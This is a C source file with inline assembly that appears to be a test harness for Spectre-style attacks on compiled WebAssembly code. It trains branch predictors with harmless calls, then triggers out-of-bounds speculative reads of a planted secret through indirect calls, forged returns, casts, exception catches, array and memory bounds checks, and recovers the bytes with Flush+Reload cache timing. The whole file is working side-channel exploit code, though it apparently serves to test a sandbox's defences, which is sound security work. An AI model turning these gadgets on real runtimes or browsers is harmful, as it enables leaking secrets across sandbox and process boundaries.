/*
 * Attacks on the machine code of victim.wat, by what the processor executes before it knows the outcome of a check. Each attack calls one function
 * with harmless arguments some times and once, in the same loop and by the same path, with arguments that reach a secret outside of the sandbox
 * and that the function's check refuses. What was read shows in the time that a page of memory 0 takes to be read. One line is printed for each:
 * name, bytes found, bytes of the secret.
 *
 * victim.h is made by the test from the object files: CODE_BYTES, the offsets of functions in code.bin, and of fields in the instance block.
 */
#define _GNU_SOURCE
#include "victim.h"
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <x86intrin.h>

enum { PAGES = 128, PAGE = 4096, ARGUMENTS = 6, FLUSHED = 4, ROUNDS = 12, TRIES = 150, SECRET_BYTES = 8, NOTICED = 5 };

/* One byte in 16: an address of the first field of a struct at each of them is that of an i31. */
enum { SECRET_STEP = 16 };
static const char SECRET[SECRET_BYTES + 1] = "Sandbox!";

struct attack {
  const char *name;
  void *function;
  uint64_t good[ARGUMENTS], bad[ARGUMENTS];
  /* Argument that counts the secret's bytes, each `scale` bytes of it. */
  int steered;
  uint64_t scale;
  const volatile uint8_t *secret;
  /* Lines that the check waits for. */
  void *flushed[FLUSHED];
};

static sigjmp_buf back;
static uint8_t *code, *instance, *probe;
static uint64_t threshold;
static int order[PAGES];

static void trapped(int signal) {
  (void)signal;
  siglongjmp(back, 1);
}

/* enter(function, arguments, instance, memory): as the runtime enters compiled code. */
uint64_t enter(void *function, const uint64_t *arguments, void *instance, void *memory);
/* Called by wrongReturn: gives `value` and returns to `where`, or to its caller if that is 0. The return address is not in the cache. */
void returning(void);
/* Where wrongReturn's callee returns to in the attack: leaves `enter`. */
void escape(void);
/* Calls through a pointer that is not in the cache: viaPointer(value, pointer). */
void viaPointer(void);
uint64_t entered;
__asm__(
  ".globl enter\nenter:\n"
  "push %rbx\npush %rbp\npush %r12\npush %r13\npush %r14\npush %r15\n"
  "mov %rsp, entered(%rip)\n"
  "mov %rdx, %r15\nwrgsbase %rcx\nmov %rdi, %rax\nmov %rsi, %rbx\n"
  "mov (%rbx), %rdi\nmov 8(%rbx), %rsi\nmov 16(%rbx), %rdx\nmov 24(%rbx), %rcx\nmov 32(%rbx), %r8\nmov 40(%rbx), %r9\n"
  "call *%rax\n"
  "leave:\npop %r15\npop %r14\npop %r13\npop %r12\npop %rbp\npop %rbx\nret\n"
  "returning:\n"
  "mov %rdi, %rax\nmov (%rsp), %rcx\ntest %rsi, %rsi\ncmovne %rsi, %rcx\nmov %rcx, (%rsp)\nclflush (%rsp)\nmfence\nret\n"
  "escape:\nmov entered(%rip), %rsp\njmp leave\n"
  "viaPointer:\ncall *(%rsi)\nret\n");

static inline uint64_t timed(const volatile uint8_t *at) {
  unsigned core;
  _mm_mfence();
  uint64_t start = __rdtscp(&core);
  _mm_lfence();
  (void)*at;
  _mm_lfence();
  return __rdtscp(&core) - start;
}

static int ascending(const void *a, const void *b) {
  uint64_t x = *(const uint64_t *)a, y = *(const uint64_t *)b;
  return (x > y) - (x < y);
}

/* Between the usual times of a cached and an uncached read. */
static void calibrate(void) {
  enum { SAMPLES = 999 };
  static uint64_t near[SAMPLES], far[SAMPLES];
  for (int i = 0; i < SAMPLES; i++) {
    timed(probe);
    near[i] = timed(probe);
    _mm_clflush(probe);
    _mm_mfence();
    far[i] = timed(probe);
  }
  qsort(near, SAMPLES, sizeof *near, ascending);
  qsort(far, SAMPLES, sizeof *far, ascending);
  threshold = (near[SAMPLES / 2] + far[SAMPLES / 2]) / 2;
  for (int i = 0; i < PAGES; i++) order[i] = i;
  for (int i = PAGES - 1; i > 0; i--) {
    int j = rand() % (i + 1), other = order[i];
    order[i] = order[j];
    order[j] = other;
  }
}

/* One try: the last round of the loop is the attack, and nothing but data tells it from the others. */
static void try(const struct attack *a, int byte) {
  uint64_t bad[ARGUMENTS], arguments[ARGUMENTS];
  memcpy(bad, a->bad, sizeof bad);
  bad[a->steered] += (uint64_t)byte * a->scale;
  for (int i = 0; i < PAGES; i++) _mm_clflush(probe + i * PAGE);
  /* Its owner uses the secret now and then. */
  (void)a->secret[byte * SECRET_STEP];
  if (sigsetjmp(back, 1)) return;
  for (volatile int round = ROUNDS - 1; round >= 0; round--) {
    uint64_t last = -(uint64_t)(round == 0);
    for (int i = 0; i < ARGUMENTS; i++) arguments[i] = a->good[i] ^ (last & (bad[i] ^ a->good[i]));
    for (int i = 0; i < FLUSHED; i++) _mm_clflush(a->flushed[i] ? a->flushed[i] : (void *)order);
    for (volatile int i = 0; i < 100; i++);
    _mm_mfence();
    enter(a->function, arguments, instance, probe);
  }
}

/* Prints how many bytes of the secret it finds. */
static void attack(const struct attack *a) {
  int found = 0;
  if (sigsetjmp(back, 1)) {
    printf("%s: the harmless call trapped\n", a->name);
    exit(1);
  }
  enter(a->function, a->good, instance, probe);
  for (int byte = 0; byte < SECRET_BYTES; byte++) {
    int hits[PAGES] = {0};
    for (int i = 0; i < TRIES; i++) {
      try(a, byte);
      for (int k = 0; k < PAGES; k++) hits[order[k]] += timed(probe + order[k] * PAGE) < threshold;
    }
    /* 0 and 1 are what harmless calls read. */
    int best = 2;
    for (int i = 2; i < PAGES; i++)
      if (hits[i] > hits[best]) best = i;
    found += best == SECRET[byte] && hits[best] >= NOTICED;
  }
  printf("%s %d %d\n", a->name, found, SECRET_BYTES);
  fflush(stdout);
}

static void *map(uint64_t at, uint64_t bytes, int access) {
  void *made = mmap((void *)at, bytes, access, MAP_PRIVATE | MAP_ANONYMOUS | (at ? MAP_FIXED : 0), -1, 0);
  if (made == MAP_FAILED) {
    perror("mmap");
    exit(1);
  }
  return made;
}

static void *contents(const char *path, void *to, long most) {
  FILE *file = fopen(path, "rb");
  if (!file || !fread(to, 1, most, file)) {
    perror(path);
    exit(1);
  }
  fclose(file);
  return to;
}

static uint8_t *hide(uint64_t at) {
  uint8_t *secret = (uint8_t *)map(at & ~0xfffull, PAGE, PROT_READ | PROT_WRITE) + (at & 0xfff);
  for (int i = 0; i < SECRET_BYTES; i++) secret[i * SECRET_STEP] = SECRET[i];
  return secret;
}

/* The plain gadget that shows whether this machine can be attacked and observed at all. */
static volatile uint64_t controlLength[8] __attribute__((aligned(64))) = {16};
static uint64_t control(const uint8_t *from, uint64_t index) {
  if (__builtin_expect(index < controlLength[0], 1)) return probe[(from[index] & 127) * PAGE];
  __builtin_trap();
}

static void store(uint64_t at, uint64_t value) { *(uint64_t *)(instance + at) = value; }
static void storeType(uint32_t type, uint32_t number) { *(uint32_t *)(instance + TYPE_IDS_AT + type * 4) = number; }

int main(void) {
  struct sigaction action = {0};
  action.sa_handler = trapped;
  action.sa_flags = SA_NODEFER;
  sigaction(SIGILL, &action, 0);
  sigaction(SIGSEGV, &action, 0);
  code = contents("code.bin", map(0, CODE_BYTES, PROT_READ | PROT_WRITE | PROT_EXEC), CODE_BYTES);
  instance = map(0x600000000, 1 << 16, PROT_READ | PROT_WRITE);
  uint8_t *object = contents("victim.o", map(0x610000000, OBJECT_BYTES, PROT_READ | PROT_WRITE), OBJECT_BYTES);
  probe = map(0x200000000, 1 << 20, PROT_READ | PROT_WRITE);
  memset(probe, 1, 1 << 20);
  calibrate();

  /* Where Nebulet's kernel has its memory, and an address of more than 32 bits more than any memory. */
  uint8_t *low = hide(0x40000125), *high = hide(0x7e0000000045);
  uint8_t *heap = map(0x300000000, 1 << 20, PROT_READ | PROT_WRITE);
  /* The second memory, and the tables, each with something far behind it. */
  uint8_t *far = map(0x400000000, 1 << 16, PROT_READ | PROT_WRITE), *behindFar = hide(0x400800125);
  memset(far, 1, 1 << 16);
  uint8_t *behindHeap = hide(0x340000125), *behindObject = hide(0x640000125);
  memset(object + DATA_AT, 1, 16);

  struct record { uint64_t code, instance; uint32_t type, index; uint64_t reference; } *elements = (void *)(heap + 0x10000);
  elements[0] = (struct record){(uint64_t)code + F_readNarrow, (uint64_t)instance, 101, 0, 1};
  elements[1] = (struct record){(uint64_t)code + F_readWide, (uint64_t)instance, 102, 1, 1};
  struct object { uint32_t type, length, a, b; } *object1 = (void *)(heap + 0x1000);
  *object1 = (struct object){103, -1, 1, 1};
  uint64_t *objects = (void *)(heap + 0x12000);
  for (int i = 0; i < 4; i++) objects[i] = (uint64_t)object1;
  struct table { uint64_t elements, length, max, type, declared, flags, next, elementBytes, used; };
  struct table *functionTable = (void *)(heap + 0x14000), *objectTable = (void *)(heap + 0x15000);
  *functionTable = (struct table){.elements = (uint64_t)elements, .length = 4, .elementBytes = 32};
  *objectTable = (struct table){.elements = (uint64_t)objects, .length = 4, .elementBytes = 8, .used = 4};
  /* The fields that the check waits for begin a cache line, which what it protects is not in. */
  struct memory { uint64_t base, bytes, max; } *memory0 = (void *)(heap + 0x16000), *memory1 = (void *)(heap + 0x17000 - 8);
  *memory0 = (struct memory){(uint64_t)probe, 9 << 16, 9 << 16};
  *memory1 = (struct memory){(uint64_t)far, 1 << 16, 1 << 16};
  uint32_t *bytes = (void *)(heap + 0x2000), *target = (void *)(heap + 0x3000), *empty = (void *)(heap + 0x4000 - 8);
  bytes[1] = target[1] = 64;
  memset(bytes + 2, 1, 64);
  memset(target + 2, 1, 64);
  uint32_t *vectors = (void *)(heap + 0x5000 - 8);
  vectors[1] = 1;
  vectors[2] = 1;
  /* Behind the empty array is no cell of the program's. */
  for (int i = 0; i < SECRET_BYTES; i++) ((uint8_t *)(empty + 2 + i * 16))[0] = SECRET[i];
  uint64_t tag = (uint64_t)heap + 0x18000;
  struct exception { uint32_t type, length; uint64_t tag, payload; } *caught = (void *)(heap + 0x6000), *other = (void *)(heap + 0x7000);
  *caught = (struct exception){-2, 0, tag, (uint64_t)object1};

  store(INSTANCE_OBJECT, (uint64_t)object);
  store(INSTANCE_MEMORY0_BASE, (uint64_t)probe);
  store(INSTANCE_MEMORY0, (uint64_t)memory0);
  store(MEMORIES_AT, (uint64_t)probe);
  store(MEMORIES_AT + 8, (uint64_t)memory0);
  store(MEMORIES_AT + 16, (uint64_t)far);
  store(MEMORIES_AT + 24, (uint64_t)memory1);
  store(TABLES_AT, (uint64_t)functionTable);
  store(TABLES_AT + 8, (uint64_t)objectTable);
  store(TAGS_AT, tag);
  store(IMPORTS_AT, (uint64_t)returning);
  store(IMPORTS_AT + 8, (uint64_t)instance);
  storeType(TYPE_narrow, 101);
  storeType(TYPE_wide, 102);
  storeType(TYPE_object, 103);
  void *wideType = instance + TYPE_IDS_AT + TYPE_wide * 4, *objectType = instance + TYPE_IDS_AT + TYPE_object * 4;

#define RUN(...)                                       \
  do {                                                 \
    struct attack a = {.steered = 0, .scale = SECRET_STEP, __VA_ARGS__}; \
    attack(&a);                                        \
  } while (0)
#define FUNCTION(name_) .name = #name_, .function = code + F_##name_

  RUN(.name = "control", .function = control, .good = {(uint64_t)(bytes + 2), 1}, .bad = {(uint64_t)(bytes + 2), (uint64_t)(high - (uint8_t *)(bytes + 2))},
      .steered = 1, .secret = high, .flushed = {(void *)controlLength});

  RUN(FUNCTION(indirectCall), .good = {1, 0}, .bad = {0, (uint64_t)(high - probe)}, .steered = 1, .secret = high, .flushed = {wideType});
  RUN(FUNCTION(indirectTailCall), .good = {1, 0}, .bad = {0, (uint64_t)(high - probe)}, .steered = 1, .secret = high, .flushed = {wideType});
  RUN(FUNCTION(wrongReturn), .good = {64, 0}, .bad = {(uint64_t)(high - probe), (uint64_t)escape}, .secret = high);
  /* An indirect branch goes where it went before: to a function whose parameter is an i32, with an i64. */
  uint64_t *toNarrow = (void *)(heap + 0x8000), *toWide = (void *)(heap + 0x8000 + 64);
  *toNarrow = (uint64_t)code + F_readNarrow;
  *toWide = (uint64_t)code + F_readWide;
  RUN(.name = "wrongTarget", .function = viaPointer, .good = {64, (uint64_t)toNarrow}, .bad = {(uint64_t)(high - probe), (uint64_t)toWide}, .secret = high,
      .flushed = {toNarrow, toWide});

  uint64_t asObject = (uint64_t)low - 12, good = (uint64_t)object1;
  RUN(FUNCTION(cast), .good = {good}, .bad = {asObject}, .secret = low, .flushed = {objectType});
  RUN(FUNCTION(branchOnCast), .good = {good}, .bad = {asObject}, .secret = low, .flushed = {objectType});
  RUN(FUNCTION(branchOnCastFail), .good = {good}, .bad = {asObject}, .secret = low, .flushed = {objectType});
  for (int i = 0; i < SECRET_BYTES; i++) other[i] = (struct exception){-2, 0, tag + 64, asObject + i * SECRET_STEP};
  RUN(FUNCTION(catch), .good = {(uint64_t)caught}, .bad = {(uint64_t)other}, .scale = sizeof *other, .secret = low, .flushed = {instance + TAGS_AT});

  uint64_t afterBytes = (uint64_t)(behindHeap - (uint8_t *)(bytes + 2));
  RUN(FUNCTION(arrayGet), .good = {(uint64_t)bytes, 1}, .bad = {(uint64_t)bytes, afterBytes}, .steered = 1, .secret = behindHeap, .flushed = {bytes});
  RUN(FUNCTION(emptyVectors), .good = {(uint64_t)vectors, 0}, .bad = {(uint64_t)empty, 0}, .scale = SECRET_STEP * 4, .secret = (uint8_t *)(empty + 2),
      .flushed = {vectors, empty});
  RUN(FUNCTION(arrayCopy), .good = {(uint64_t)target, (uint64_t)bytes, 8}, .bad = {(uint64_t)target, (uint64_t)bytes, afterBytes}, .steered = 2,
      .secret = behindHeap, .flushed = {bytes});
  uint64_t afterData = (uint64_t)(behindObject - object) - DATA_AT;
  RUN(FUNCTION(arrayInitData), .good = {(uint64_t)target, 8}, .bad = {(uint64_t)target, afterData}, .steered = 1, .secret = behindObject,
      .flushed = {instance + DATA_DROPPED_AT});
  RUN(FUNCTION(memoryInit), .good = {8}, .bad = {afterData}, .secret = behindObject, .flushed = {instance + DATA_DROPPED_AT});
  RUN(FUNCTION(memoryCopy), .good = {8}, .bad = {(uint64_t)(high - far)}, .secret = high, .flushed = {&memory1->bytes});
  RUN(FUNCTION(wideLoad), .good = {8}, .bad = {(uint64_t)(behindFar - far)}, .secret = behindFar, .flushed = {&memory1->bytes});
  uint64_t *faked = (void *)(heap + 0x80000);
  for (int i = 0; i < SECRET_BYTES; i++) faked[i] = asObject + i * SECRET_STEP;
  RUN(FUNCTION(tableGet), .good = {1}, .bad = {(uint64_t)(faked - objects)}, .scale = 1, .secret = low, .flushed = {&objectTable->length});
  return 0;
}
